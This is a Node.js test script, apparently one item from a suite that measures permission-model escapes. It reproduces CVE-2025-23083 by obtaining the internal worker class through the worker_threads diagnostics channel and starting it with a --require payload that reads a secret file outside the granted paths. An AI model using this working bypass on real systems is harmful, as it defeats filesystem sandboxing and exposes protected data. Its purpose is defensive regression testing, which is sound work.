// id: A18
// title: a diagnostics channel hands out the class of internal workers
// label: CVE-2025-23083 fixed in 20.18.2, 22.13.1 and 23.6.1
// reference: https://nodejs.org/en/blog/vulnerability/january-2025-security-releases
// versions: >=20.6.0 <20.18.2 || >=21.0.0 <22.13.1 || >=23.0.0 <23.6.1
// measured: escapes: 20.8.0 to 20.18.1; denied: 20.20.1 to 26.10.0; not applicable: 20.3.0, 20.5.0
// grants: --allow-fs-read={grant} --allow-fs-write={grant}
// prove: content
// stops: landlock
// needs: node>=20.6.0
'use strict';
const [grant, secret] = process.argv.slice(2);
const finish = (text) => { process.stdout.write(text.split('\n', 1)[0] + '\n'); process.exit(); };
const escaped = (evidence) => finish(`ESCAPED ${evidence}`);
const DENIAL = /^(ERR_ACCESS_DENIED|ERR_DLOPEN_DISABLED|ERR_DLOPEN_FAILED|EACCES|EPERM|ENOSYS|EXDEV|EROFS)$/;
const failed = (error) => finish(`${DENIAL.test(error.code) ? 'DENIED' : 'BROKEN'} ${error.code || error.name} ${error.message}`);
process.on('uncaughtException', failed);

const fs = require('fs');
const channel = require('diagnostics_channel');
// An internal worker takes the names of internal modules only, but its --require runs what is told, outside the model.
fs.writeFileSync(`${grant}/payload.js`, `
  let line;
  try {
    line = 'ESCAPED ' + require('fs').readFileSync(${JSON.stringify(`${secret}/secret.txt`)}, 'utf8');
  } catch (error) {
    line = 'DENIED ' + error.code + ' ' + error.message;
  }
  require('fs').writeSync(1, line.split('\\n', 1)[0] + '\\n');
  process.kill(process.pid, 'SIGKILL');
`);
let tried = false;
channel.subscribe('worker_threads', ({ worker }) => {
  if (tried) return;
  tried = true;
  try {
    new worker.constructor('internal/util/inspect', { execArgv: ['--require', `${grant}/payload.js`] }).on('error', failed);
  } catch (error) {
    failed(error);
  }
});
try {
  require('module').register('data:text/javascript,');
} catch (error) {
  failed(error);
}
setTimeout(() => finish('BROKEN none no worker came'), 5000);
